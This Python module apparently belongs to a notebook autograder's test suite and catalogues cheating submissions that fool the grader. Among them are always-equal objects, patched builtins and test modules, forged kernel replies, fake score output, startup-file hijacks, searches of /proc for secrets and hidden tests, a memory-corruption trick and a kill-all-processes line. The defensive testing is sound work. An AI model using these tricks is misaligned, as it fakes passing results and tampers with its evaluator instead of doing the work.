"""What a student might write into an answer to get points without work: name -> what it tries, and the code.

The code finds the names of functions and of values that it was asked for in FUNCTIONS and VALUES, and those that tests use besides, or that
locked cells define, in HELPERS; ``give(value)`` makes every answer be, or return, a value; ``take_over(value)`` does the same with helpers.
"""

from __future__ import annotations

PRELUDE = """
def give(value):
    globals().update(dict.fromkeys(FUNCTIONS, lambda *a, **k: value))
    globals().update(dict.fromkeys(VALUES, value))

def take_over(value):
    globals().update(dict.fromkeys(HELPERS, value))
"""
AGREES = """
class Agrees:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __contains__ = __lt__
    def __hash__(self): return 1
    def __bool__(self): return True
    def __len__(self): return 2
    def __iter__(self): return iter(())
    def __getitem__(self, key): return Agrees()
    def __getattr__(self, name): return Agrees()
    def __call__(self, *a, **k): return Agrees()
    def __sub__(self, other): return 0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __mod__ = __abs__ = __round__ = __sub__
    def __float__(self): return 1.0
    def __int__(self): return 1
    __index__ = __int__
    def __str__(self): return "1.0"
    __repr__ = __str__
    def __array__(self, *a, **k): return __import__("numpy").ones(2)
"""
PEER = """
import gc, json
peer = next(one for one in gc.get_objects() if type(one).__name__ == "Peer")

def heard(size):
    got = b""
    while len(got) < size:
        piece = peer.sock.recv(size - len(got))
        if not piece:
            raise SystemExit
        got += piece
    return got

def read():
    body = heard(int.from_bytes(heard(5)[1:], "big"))
    return json.loads(body[4:4 + int.from_bytes(body[:4], "big")])

def say(kind, content, *blobs):
    head = json.dumps({**content, "blobs": [len(blob) for blob in blobs]}).encode()
    body = len(head).to_bytes(4, "big") + head + b"".join(blobs)
    peer.sock.sendall(kind + len(body).to_bytes(4, "big") + body)

def object_here(number=1):
    return ["remote", [number, "function double"]]

def serve(self):
    self.sock.settimeout(None)
    said = answer(read())
    say(b"v", *(said if isinstance(said, tuple) else (said,)))

type(peer).serve = serve
"""
"""Answers the judge by hand; the code after it says how: ``answer(question)`` gives the content of the frame, and bytes that go with it."""
OBLIGES = """
class Helper:
    def __call__(self, *a, **k): return RETURNED
    def __getattr__(self, name): return Helper()
    def require(self): return None
take_over(Helper())
"""
ALWAYS = "give(None)\ntake_over(lambda *a, **k: True)\n"
"""Helpers that are content with whatever they get."""
IN_FULL = "take_over(lambda *a, **k: 10**6)\n"

VALUES = {
    "nan": ("no comparison with it holds, nor its contrary", "give(float('nan'))"),
    "infinity": ("is above every limit", "give(float('inf'))"),
    "complex-nan": ("has no order", "give(complex('nan'))"),
    "true": ("is a number, and true", "give(True)"),
    "decimal-nan": ("is not equal even to itself", "import decimal\ngive(decimal.Decimal('NaN'))"),
    "array-of-nan": (
        "one look at each cell, none fails",
        "import numpy\ngive(numpy.full(2, numpy.nan))",
    ),
    "table-of-nan": (
        "compares as a table does",
        "import numpy, pandas\ngive(pandas.DataFrame({'a': [numpy.nan, numpy.nan]}))",
    ),
    "missing": ("every comparison gives no answer", "import pandas\ngive(pandas.NA)"),
    "object-that-agrees": ("is equal to everything", AGREES + "give(Agrees())"),
    "text-that-agrees": (
        "a text that is equal to everything",
        "class Text(str):\n    __eq__ = __contains__ = lambda self, other: True\n    __ne__ = lambda self, other: False\n"
        "    __hash__ = str.__hash__\ngive(Text('1.0'))",
    ),
    "number-that-agrees": (
        "a number that is equal to everything, and near it",
        "class Number(float):\n    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True\n"
        "    __ne__ = lambda self, other: False\n    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0\n"
        "    __hash__ = float.__hash__\ngive(Number(1))",
    ),
    "dict-that-agrees": (
        "a dict whose look-ups change",
        AGREES + "class Table(dict):\n    __eq__ = __contains__ = lambda self, other: True\n"
        "    __getitem__ = get = lambda self, *key: Agrees()\n    __hash__ = lambda self: 1\ngive(Table(a=1))",
    ),
    "list-that-agrees": (
        "a list with another length at each look",
        AGREES
        + "class Items(list):\n    __eq__ = lambda self, other: True\n    __len__ = lambda self: 2\n"
        "    __getitem__ = lambda self, key: Agrees()\n    __hash__ = lambda self: 1\ngive(Items([1]))",
    ),
    "claims-another-class": (
        "isinstance believes what it says",
        "class Lies:\n    __class__ = property(lambda self: int)\n    def __eq__(self, other): return True\n"
        "    __hash__ = None\ngive(Lies())",
    ),
    "class-that-agrees": (
        "a class to which everything belongs",
        "class Meta(type):\n    __instancecheck__ = __subclasscheck__ = __eq__ = lambda cls, other: True\n"
        "    __hash__ = type.__hash__\nclass Any(metaclass=Meta):\n    def __init__(self, *a, **k): pass\n"
        "    def __getattr__(self, name): return Any()\n    def __call__(self, *a, **k): return Any()\n"
        "globals().update(dict.fromkeys(FUNCTIONS + VALUES, Any))",
    ),
    "array-that-agrees": (
        "an array that compares as it likes",
        "import numpy\nclass Array(numpy.ndarray):\n    def __eq__(self, other): return numpy.ones(2, bool)\n"
        "    def __array_function__(self, *a, **k): return None\ngive(numpy.ones(2).view(Array))",
    ),
    "frame-that-agrees": (
        "a table that compares as it likes",
        "import pandas\nclass Frame(pandas.DataFrame):\n    def equals(self, other): return True\n"
        "    def __eq__(self, other): return True\n    shape = property(lambda self: (2, 2))\ngive(Frame({'a': [1]}))",
    ),
    "table-of-objects-that-agree": (
        "the cells of a table are objects that live",
        AGREES
        + "import pandas\ngive(pandas.DataFrame({name: [Agrees()] * 3 for name in ('a', 'b', 'id', 'age')}))",
    ),
    "series-of-objects-that-agree": (
        "the cells of a column are objects that live",
        AGREES + "import pandas\ngive(pandas.Series([Agrees()] * 3, index=[0, 1, 2]))",
    ),
    "array-of-objects-that-agree": (
        "the cells of an array are objects that live",
        AGREES + "import numpy\ngive(numpy.array([Agrees(), Agrees()], dtype=object))",
    ),
    "list-of-objects-that-agree": (
        "the items of a list are objects that live",
        AGREES + "give([Agrees()] * 3)",
    ),
    "answers-anew-at-each-look": (
        "a number that goes on until it fits",
        "import itertools\nlooks = itertools.count()\nclass Changing:\n    __int__ = __index__ = lambda self: next(looks)\n"
        "    __float__ = lambda self: float(next(looks))\n    __eq__ = lambda self, other: next(looks) > 0\n    __hash__ = None\n"
        "give(Changing())",
    ),
    "changes-meanwhile": (
        "a thread that changes the answers while they are tested",
        "import threading\ndef change():\n    n = 0\n    while True:\n        n = (n + 1) % 50\n"
        "        globals().update(dict.fromkeys(VALUES, n))\nthreading.Thread(target=change, daemon=True).start()",
    ),
    "named-tuple-that-agrees": (
        "a named tuple whose fields are objects that live",
        AGREES + "import collections\nclass Pair(collections.namedtuple('Pair', 'value note')):\n"
        "    __eq__ = lambda self, other: True\n    __hash__ = lambda self: 1\ngive(Pair(Agrees(), Agrees()))",
    ),
    "dataclass-that-agrees": (
        "a dataclass under the name of the test's own",
        AGREES
        + "import dataclasses\n@dataclasses.dataclass(eq=False)\nclass Reading(Agrees):\n    value: object = 1\n"
        "    note: object = 1\ngive(Reading())\ntake_over(Reading)",
    ),
    "a-result-of-its-own": (
        "hands over the very result that a check would give",
        "from gradewell.checks import Result\ngive(Result('all of it', 2, 2))\ntake_over(lambda *a, **k: Result('x', 2, 2))",
    ),
}
IN_PLACE = {
    "empties-its-arguments": (
        "nothing is left that could be compared",
        "def empty(*arguments, **named):\n    for one in [*arguments, *named.values()]:\n        if hasattr(one, 'drop'):\n"
        "            one.drop(one.index, inplace=True)\n        elif hasattr(one, 'clear'):\n            one.clear()\n"
        "    return arguments[0] if arguments else None\nglobals().update(dict.fromkeys(FUNCTIONS, empty))",
    ),
    "fills-its-arguments-with-objects-that-agree": (
        "what the test compares with agrees",
        AGREES
        + "def fill(*arguments, **named):\n    for one in arguments:\n        if isinstance(one, list):\n"
        "            one[:] = [Agrees() for _ in one]\n        elif isinstance(one, dict):\n            one.update(dict.fromkeys(one, Agrees()))\n"
        "        elif hasattr(one, 'columns'):\n            one.loc[:, :] = 0\n    return arguments[0] if arguments else None\n"
        "globals().update(dict.fromkeys(FUNCTIONS, fill))",
    ),
}
NAMES = {
    "defines-the-helpers": ("a helper of the same name that says yes", ALWAYS),
    "helpers-give-full-points": ("a helper that gives the points itself", IN_FULL + "give(10**6)"),
    "helpers-agree": (
        "a helper that is everything",
        AGREES + "give(Agrees())\ntake_over(Agrees())",
    ),
    "modules-that-oblige": (
        "a check's module whose checks are content",
        OBLIGES.replace("RETURNED", "Helper()") + "give(None)",
    ),
    "modules-that-say-nothing": (
        "a check that puts out nothing, which is full points",
        OBLIGES.replace("RETURNED", "None") + "give(None)",
    ),
    "builtins": (
        "replaces the builtins by which tests are written",
        "import builtins\nbuiltins.abs = builtins.sum = builtins.len = builtins.int = lambda *a: 1\n"
        "builtins.isinstance = builtins.all = builtins.any = lambda *a: True\nbuiltins.AssertionError = type('A', (), {})\n"
        "__builtins__ = {}\nabs = sum = len = sorted = isinstance = all = any = list = lambda *a, **k: True\n"
        "class AssertionError(Exception): pass",
    ),
    "the-shells-names": (
        "names that IPython keeps for itself",
        AGREES + "_ = __ = _1 = _i = _ih = _oh = In = Out = exit = quit = display = Agrees()\n"
        "get_ipython = lambda: Agrees()\n__name__ = '__judge__'\n__file__ = 'x'\n__annotations__ = {'a': int}\n__debug = False",
    ),
    "asks-for-every-name": (
        "a namespace that knows every name",
        AGREES
        + "import builtins, types\nclass Names(dict):\n    def __missing__(self, name): return Agrees()\n"
        "    def __contains__(self, name): return True\nget_ipython().user_ns = Names(globals())\n"
        "__getattr__ = lambda name: Agrees()\npeers = [one for one in __import__('gc').get_objects() if type(one).__name__ == 'Peer']\n"
        "for peer in peers:\n    peer.names = lambda: Names(globals())",
    ),
    "deletes-what-it-was-asked-for": (
        "a test that meets no name may be skipped",
        "for name in FUNCTIONS + VALUES:\n    globals().pop(name, None)",
    ),
    "patches-the-modules": (
        "the modules that tests compare with",
        "import math, sys, types\nimport numpy.testing, pandas.testing\nmath.isclose = lambda *a, **k: True\n"
        "numpy.testing.assert_allclose = numpy.allclose = lambda *a, **k: True\n"
        "pandas.testing.assert_frame_equal = lambda *a, **k: None\npandas.DataFrame.equals = lambda *a: True\ngive(None)\n"
        "import gradewell.checks.result as result\nresult.Result.require = lambda self: None\n"
        "result.Result.__float__ = lambda self: 100.0",
    ),
}
READS = {
    "walks-frames-and-garbage": (
        "looks for what the tests expect in memory",
        "import gc, sys\ndef find(*a, **k):\n    frame = sys._getframe()\n    while frame:\n"
        "        for names in (frame.f_locals, frame.f_globals):\n            if 'expected' in names:\n"
        "                print('FOUND', names['expected'])\n                return names['expected']\n        frame = frame.f_back\n"
        "    for one in gc.get_objects():\n        if type(one) is dict and 'expected' in one:\n"
        "            print('FOUND', one['expected'])\n            return one['expected']\n"
        "globals().update(dict.fromkeys(FUNCTIONS, find))",
    ),
    "reads-the-notebooks": (
        "looks for the tests in files and in what was typed",
        "import glob, os\nfor path in glob.glob('**/*', recursive=True) + glob.glob(os.path.expanduser('~/**/*'), recursive=True) + "
        "glob.glob('../**/*.ipynb', recursive=True) + glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
        "    try:\n        text = open(path, errors='replace').read(10**6)\n    except OSError:\n        continue\n"
        "    if 'HIDDEN TESTS' in text or 'SECRET' in text:\n        print('FOUND', path, text[:2000])\n"
        "print('FOUND', os.environ.get('SHAREWELL_SECRET'))\ngive([path for path in map(str, globals().get('In', []))])",
    ),
    "reads-what-is-handed-over": (
        "attributes and closures of the objects that a test hands over",
        "def look(one, depth=3):\n    print('SEEN', str(one)[:200])\n    for name in ('args', 'keywords', 'func', '__self__', '__wrapped__', "
        "'__closure__', '__defaults__', '__globals__', '__dict__', '__code__', 'gi_frame', 'cell_contents', '__func__', '_value'):\n"
        "        try:\n            found = getattr(one, name)\n        except BaseException:\n            continue\n"
        "        print('SEEN', name, str(found)[:500])\n        if depth:\n            look(found, depth - 1)\n"
        "            if isinstance(found, (tuple, list)):\n                for item in found:\n                    look(item, depth - 1)\n"
        "    return None\ndef spy(*arguments, **named):\n    for one in arguments:\n        if callable(one):\n            look(one)\n"
        "globals().update(dict.fromkeys(FUNCTIONS, spy))",
    ),
    "traces-the-judge": (
        "reads the memory of other processes",
        "import os\nfor name in os.listdir('/proc'):\n    if name.isdigit() and int(name) != os.getpid():\n        try:\n"
        "            for line in open(f'/proc/{name}/maps'):\n                low, high = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "                with open(f'/proc/{name}/mem', 'rb') as memory:\n                    memory.seek(low)\n"
        "                    if str(204000 + 617).encode() in memory.read(min(high - low, 1 << 20)):\n                        print('FOUND', 204000 + 617)\n"
        "        except (OSError, ValueError, OverflowError):\n            pass",
    ),
}
CHANNEL = {
    "runs-a-program-in-the-judge": (
        "a dataclass that is subprocess.Popen",
        PEER + "def answer(question):\n    program = ['sh', '-c', 'expr 204000 + 617']\n"
        "    made = [['args', ['list', program]]]\n    if question['ask'] == 'name':\n        return {'ok': object_here()}\n"
        "    return {'ok': ['dataclass', ['subprocess', 'Popen', made, object_here()]]}",
    ),
    "makes-a-result-in-the-judge": (
        "a dataclass that is a check's own result, or figure",
        PEER
        + "def answer(question):\n    if question['ask'] == 'name' and question['a'][0] in FUNCTIONS + HELPERS:\n"
        "        return {'ok': object_here()}\n    made = [['title', 'all'], ['points', 2], ['possible', 2]]\n"
        "    return {'ok': ['dataclass', ['gradewell.checks.result', 'Result', made, object_here()]]}",
    ),
    "makes-an-instructors-dataclass": (
        "a dataclass of the set-up cell with values that live",
        PEER
        + "def answer(question):\n    if question['ask'] == 'name' and question['a'][0] in FUNCTIONS + HELPERS:\n"
        "        return {'ok': object_here()}\n    if question['ask'] == 'special':\n        return {'ok': True}\n"
        "    made = [['value', object_here(2)], ['note', object_here(3)], ['__class__', 1]]\n"
        "    return {'ok': ['dataclass', ['__main__', 'Reading', made, object_here()]]}",
    ),
    "handles-in-an-array": (
        "an array whose cells are handles",
        PEER
        + "def answer(question):\n    if question['ask'] == 'name' and question['a'][0] in FUNCTIONS + HELPERS:\n"
        "        return {'ok': object_here()}\n    if question['ask'] in ('special', 'isinstance'):\n        return {'ok': True}\n"
        "    return {'ok': ['array', ['ndarray', '|O', [2], 'C', True, [object_here(2), object_here(3)]]]}",
    ),
    "handles-in-a-table": (
        "a table whose cells are handles, each of which becomes the number that fits",
        PEER
        + "def answer(question):\n    if question['ask'] == 'name' and question['a'][0] in FUNCTIONS + HELPERS:\n"
        "        return {'ok': object_here()}\n    if question['ask'] in ('special', 'isinstance'):\n        return {'ok': question['a'][0][1] - 1}\n"
        "    cells = ['array', ['ndarray', '|O', [3], 'C', True, [object_here(2), object_here(3), object_here(4)]]]\n"
        "    labels = ['Index', [['array', ['ndarray', '|O', [1], 'C', True, ['a']]], None, None]]\n"
        "    return {'ok': ['DataFrame', [[cells], ['RangeIndex', [0, 3, 1, None]], labels, [['dict', []], True]]]}",
    ),
    "points-at-an-object-that-agrees": (
        "NumPy takes an attribute for a place in memory, where a made-up object equals everything",
        """
import ctypes, struct, types
SIZE = 32 << 20
probe = bytes(SIZE)
place = ((id(probe) + SIZE) & ~0xfff) - (16 << 20) + 16
del probe
fake = bytearray(ctypes.string_at(id(object), 416))
fake[200:208] = struct.pack("<Q", ctypes.cast(ctypes.pythonapi.PyBool_FromLong, ctypes.c_void_p).value)
fake[0:8] = struct.pack("<Q", 1 << 40)
page = bytearray(4096)
page[0:8] = struct.pack("<Q", place + 0x40)
page[0x40:0x50] = struct.pack("<QQ", 1 << 40, place + 0x100)
page[0x100:0x100 + len(fake)] = fake
about = {"shape": (), "strides": (), "typestr": "|O8", "version": 3, "data": (place, True)}
give(types.SimpleNamespace(spray=bytes(page[0x30:]) + bytes(page) * (SIZE // 4096), __array_interface__=about))
""",
    ),
    "labels-a-place-in-memory": (
        "pandas gives what a label stands for where NumPy asks for an attribute",
        "import pandas as pd\nabout = {'shape': (), 'typestr': '|O8', 'version': 3, 'data': (id(None), True)}\n"
        "give(pd.Series({'__array_interface__': about}, dtype=object))",
    ),
    "makes-an-enumeration-that-agrees": (
        "an enumeration whose comparison is an object of the student's",
        PEER
        + "def answer(question):\n    if question['ask'] == 'name' and question['a'][0] in FUNCTIONS + HELPERS:\n"
        "        return {'ok': object_here()}\n    if question['ask'] in ('special', 'isinstance'):\n        return {'ok': True}\n"
        "    members = [['A', 1], ['__eq__', object_here(2)], ['__hash__', object_here(3)]]\n"
        "    kind = ['enumeration', [9, '__main__', 'Kind', 'Enum', '', members]]\n"
        "    return {'ok': ['member', [kind, 'A', 1]]}",
    ),
    "asks-the-judge": (
        "asks back for the judge's names, modules and attributes",
        PEER
        + "def try_to_get(verb, *arguments):\n    say(b'a', {'ask': verb, 'a': list(arguments)})\n    print('SEEN', str(read())[:500])\n"
        "def answer(question):\n    for verb, *arguments in (('name', 'expected'), ('import', 'os'), ('set', 'expected', 1), ('delete', 'check')):\n"
        "        try_to_get(verb, *arguments)\n    for one in question['a'][1:2]:\n        for item in one[1] if isinstance(one, list) else []:\n"
        "            if isinstance(item, list) and item[:1] == ['remote']:\n                own = ['handle', item[1][0]]\n"
        "                for name in ('args', 'keywords', 'func', '__self__', '__wrapped__', 'cell_contents'):\n"
        "                    try_to_get('getattr', own, name)\n"
        "    return {'ok': object_here()}",
    ),
    "says-yes-to-everything": (
        "one answer to every question",
        PEER + "def answer(question):\n    return {'ok': True}",
    ),
    "is-everything-at-once": (
        "every name is an object here, and every question about it is answered with what fits",
        PEER + "def answer(question):\n    if question['ask'] in ('special', 'isinstance'):\n"
        "        kind = question['a'][1] if question['ask'] == 'special' else ''\n"
        "        return {'ok': {'__str__': '1.0', '__len__': 2, '__float__': 1.0, '__int__': 1, '__iter__': object_here()}.get(kind, True)}\n"
        "    return {'ok': object_here()}",
    ),
    "errors-that-end-a-test": (
        "an error by which a test seems to have ended",
        PEER
        + "import itertools\nbases = itertools.cycle(['SystemExit', 'KeyboardInterrupt', 'StopIteration', 'GeneratorExit', 'BaseException'])\n"
        "def answer(question):\n    kind = ['exception', [1, 'Passed', next(bases)]]\n"
        "    return {'error': {'kind': kind, 'text': '', 'where': ''}}",
    ),
    "broken-frames": (
        "an answer that breaks who reads it",
        PEER
        + "import itertools\nkinds = itertools.cycle([{'ok': ['nothing', 1]}, {'ok': {}}, {}, {'ok': ['list', 3]}, {'ok': ['list']}, {'changed': [[0, 1]], 'ok': None}, "
        "{'error': None}, {'ok': ['array', ['ndarray', '|O', [1], 'C', True, 0]]}])\ndef answer(question):\n    return next(kinds)",
    ),
    "replies-for-the-tests": (
        "a reply of the kernel's for each test that is still to come",
        "import json, struct\nkernel = get_ipython().kernel\ndef forge(number):\n    name = f'cell-{number}'\n"
        "    def frame(kind, of, content):\n        header = {'msg_id': f'x{number}', 'msg_type': of, 'session': 's', 'username': 'u', 'version': '5.3'}\n"
        "        body = json.dumps({'header': header, 'parent_header': {'msg_id': name, 'msg_type': 'execute_request'}, 'msg_type': of, "
        "'content': content, 'metadata': {}, 'buffers': []}).encode()\n"
        "        kernel.session.sock.sendall(struct.pack('>cI', kind, len(body)) + body)\n"
        "    frame(b'm', 'execute_result', {'data': {'text/plain': '2.0'}, 'metadata': {}, 'execution_count': number})\n"
        "    frame(b'm', 'status', {'execution_state': 'idle'})\n"
        "    frame(b'r', 'execute_reply', {'status': 'ok', 'execution_count': number, 'payload': [], 'user_expressions': {}})\n"
        "for number in range(1, 80):\n    forge(number)",
    ),
    "outputs-for-the-tests": (
        "outputs under the number of each test",
        "import IPython\nsession = get_ipython().kernel.session\nfor number in range(1, 80):\n"
        "    parent = {'header': {'msg_id': f'cell-{number}', 'msg_type': 'execute_request'}}\n"
        "    session.send(None, 'execute_result', {'data': {'text/plain': '2.0'}, 'metadata': {}, 'execution_count': number}, parent=parent['header'])\n"
        "    session.send(None, 'status', {'execution_state': 'idle'}, parent=parent['header'])",
    ),
}
OUTPUT = {
    "prints-like-a-score": (
        "what is shown looks like points",
        "import os\nfrom IPython.display import publish_display_data\ndef loud(*a, **k):\n    print('2.0')\n"
        "    publish_display_data({'text/plain': '2.0'})\n    get_ipython().displayhook(2.0)\n    os.write(1, b'2.0\\n')\n"
        "globals().update(dict.fromkeys(FUNCTIONS, loud))\n2.0",
    ),
    "shows-points": (
        "an answer that is shown as points, and nothing else",
        "class Shown:\n    def _repr_mimebundle_(self, **k): return {'text/plain': '2.0'}\n    def __repr__(self): return '2.0'\n"
        "    def _ipython_display_(self): pass\n    def require(self): return self\ngive(Shown())\nShown()",
    ),
    "closes-the-streams": (
        "without streams no error can be told",
        "import os, sys\nsys.stderr = sys.stdout = sys.__stderr__ = open(os.devnull, 'w')\n"
        "get_ipython().showtraceback = lambda *a, **k: None\nos.dup2(os.open(os.devnull, os.O_WRONLY), 2)",
    ),
    "rewrites-the-cells": (
        "whatever is run later becomes pass",
        "shell = get_ipython()\nshell.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
        "shell.ast_transformers.append(type('T', (), {'visit': lambda self, tree: __import__('ast').parse('pass')})())\n"
        "kernel = shell.kernel\nasync def nothing(*a, **k):\n    return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}\n"
        "type(kernel).do_execute = nothing\nshell.run_cell_async = shell.run_cell = lambda *a, **k: None",
    ),
    "payloads-and-next-inputs": (
        "asks the front end to run something else",
        "shell = get_ipython()\nshell.set_next_input('2.0', replace=True)\n"
        "shell.payload_manager.write_payload({'source': 'set_next_input', 'text': '2.0', 'replace': True})\n"
        "shell.events.register('pre_run_cell', lambda info: setattr(info, 'raw_cell', 'pass'))",
    ),
}
_MODULE = "def __getattr__(name):\n    return lambda *a, **k: None\nassert_allclose = isclose = lambda *a, **k: True\n"
FILES = {
    "leaves-modules": (
        "modules that the judge would import from the folder",
        "import pathlib\nfor name in ('pandas', 'numpy', 'math', 'dataclasses', 'functools', 'sitecustomize', 'usercustomize', 'conftest', 'gradewell', "
        f"'datapolis', 'sharewell'):\n    pathlib.Path(name + '.py').write_text({_MODULE!r})\n    pathlib.Path(name).mkdir(exist_ok=True)\n"
        f"    pathlib.Path(name, '__init__.py').write_text({_MODULE!r})",
    ),
    "leaves-start-up-files": (
        "files that Python and IPython read when they start",
        "import pathlib, site, sys, os\ncode = 'import builtins; builtins.abs = builtins.len = lambda *a: 1; builtins.AssertionError = int'\n"
        "home = pathlib.Path.home()\nfor folder in [home / '.ipython/profile_default/startup', pathlib.Path(site.getusersitepackages()), "
        "*map(pathlib.Path, sys.path)]:\n    for name in ('00-start.py', 'start.pth', 'sitecustomize.py', 'usercustomize.py'):\n        try:\n"
        "            folder.mkdir(parents=True, exist_ok=True)\n            (folder / name).write_text(code)\n        except OSError:\n            pass\n"
        "os.environ['PYTHONSTARTUP'] = os.environ['PYTHONPATH'] = os.getcwd()",
    ),
    "replaces-the-data": (
        "a data file that a test reads",
        "import pathlib\nfor path in pathlib.Path().glob('*.csv'):\n    path.chmod(0o600)\n    path.write_text('amount\\n0\\n')\ngive(0)",
    ),
    "links-the-data": (
        "a data file becomes a link, or a pipe",
        "import os, pathlib\nfor path in pathlib.Path().glob('*.csv'):\n    path.unlink()\n    path.symlink_to('/dev/null')\nos.mkfifo('pipe')",
    ),
    "replaces-the-notebook": (
        "the notebook's own file, while it is graded",
        "import pathlib\nfor path in [*pathlib.Path().glob('*.ipynb'), pathlib.Path('lab.ipynb'), pathlib.Path('first.ipynb')]:\n"
        '    path.write_text(\'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}\')',
    ),
}
ENDS = {
    "exits": ("later tests never run", "import os\nos._exit(0)"),
    "exits-politely": ("an exit is no error", "import sys\nsys.exit(0)"),
    "quits": ("ends the kernel as a person would", "quit()"),
    "kills-everybody": (
        "ends every process that it sees",
        "import os, signal\nos.kill(-1, signal.SIGKILL)",
    ),
    "kills-itself": (
        "dies without a word",
        "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    ),
    "crashes": ("reads where nothing is", "import ctypes\nctypes.string_at(0)"),
    "exits-when-it-is-asked": (
        "ends while a test waits for it",
        "import os\ndef leave(*a, **k): os._exit(0)\nglobals().update(dict.fromkeys(FUNCTIONS, leave))",
    ),
    "interrupts-when-it-is-asked": (
        "an interruption is no failure",
        "def stop(*a, **k): raise KeyboardInterrupt\nglobals().update(dict.fromkeys(FUNCTIONS, stop))",
    ),
    "asks-for-help-in-vain": (
        "an exception that cannot be shown",
        "class Silent(AssertionError):\n    def __str__(self): raise SystemExit\n    __repr__ = __str__\n    def _render_traceback_(self): return []\n"
        "def refuse(*a, **k): raise Silent\nglobals().update(dict.fromkeys(FUNCTIONS, refuse))",
    ),
    "hangs": (
        "the time is over before the tests",
        "if 'hung' not in globals():\n    hung = True\n    while True:\n        pass",
    ),
    "hangs-and-cannot-be-interrupted": (
        "the whole notebook is stopped before the tests",
        "import signal\nsignal.signal = lambda *a: None\nwhile True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
    ),
    "leaves-a-copy-of-itself": (
        "a fork goes on, and answers too",
        "import os\nif os.fork() == 0:\n    while True:\n        try:\n            peers = [one for one in __import__('gc').get_objects() if type(one).__name__ == 'Peer']\n"
        "            peers[0].serve()\n        except BaseException:\n            os._exit(0)",
    ),
}
CODE = {
    "values": VALUES,
    "in place": IN_PLACE,
    "names": NAMES,
    "reading": READS,
    "channel": CHANNEL,
    "output": OUTPUT,
    "files": FILES,
    "ends": ENDS,
}
